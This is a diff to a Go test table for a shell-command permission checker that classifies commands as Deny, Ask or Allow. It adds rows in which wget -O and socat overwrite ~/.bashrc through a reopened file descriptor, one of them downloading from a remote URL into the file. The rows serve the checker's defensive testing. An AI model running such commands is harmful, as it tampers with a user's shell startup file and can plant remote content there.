@@ -66,6 +66,12 @@ var fdReopenRows = []struct {
 	{`exec 3<~/.bashrc; p=/dev/fd/3; echo x > $p`, Deny},
 	{`n=3; exec 3<~/.bashrc; echo x > /dev/fd/$n`, Deny},
 	{`for i in 1 2; do echo x > /dev/fd/3; exec 3<~/.bashrc; done`, Deny},
+	// Other writers: wget -O, socat without -u (data flows both ways:
+	// what stdin gives is written into the file).
+	{`exec 3<~/.bashrc; wget -O /dev/fd/3 https://x.com/a`, Deny},
+	{`exec 3<~/.bashrc; echo x | socat - /dev/fd/3`, Deny},
+	{`exec 3<~/.bashrc; echo x | socat - OPEN:/dev/fd/3`, Deny},
+	{`echo x | socat - ~/.bashrc`, Deny},
 	// ${fd:-3} is /dev/fd/3 when fd is unset or empty.
 	{`exec 3<~/.bashrc; echo x > /dev/fd/${fd:-3}`, Ask},
 	// exec inside a branch: the descriptor may be the file.
@@ -101,6 +107,8 @@ var fdReopenRows = []struct {
 	{`exec {fd}<~/.bashrc; fd=1; echo x > /dev/fd/$fd`, Allow},
 	{`exec {fd}<~/.bashrc; exec {fd}<&-; echo x > /dev/fd/$fd`, Allow},
 	{`exec 3<~/.bashrc; echo x > /dev/fd/03`, Allow},
+	{`socat -u ~/.bashrc -`, Allow},
+	{`socat - /dev/ttyUSB0`, Allow},
 	{`exec 3<~/.bashrc; echo x > /dev/fd/3/`, Allow},
 	{`(exec 3<~/.bashrc); echo x > /dev/fd/3`, Allow},
 	{`exec 3<~/.bashrc; echo x > /dev/stdout 1<&3`, Allow},
@@ -134,7 +142,10 @@ func TestFdReopenExec(t *testing.T) {
 		t.Skip("no /proc")
 	}
 	for _, tc := range fdReopenRows {
-		if tc.want != Deny && tc.want != Allow || strings.Contains(tc.cmd, "curl") || strings.Contains(tc.cmd, "sudo") {
+		if tc.want != Deny && tc.want != Allow || strings.Contains(tc.cmd, "curl") || strings.Contains(tc.cmd, "wget") || strings.Contains(tc.cmd, "sudo") || strings.Contains(tc.cmd, "ttyUSB") {
+			continue
+		}
+		if _, err := exec.LookPath("socat"); err != nil && strings.Contains(tc.cmd, "socat") {
 			continue
 		}
 		if strings.Contains(tc.cmd, "[ -f x ]") {
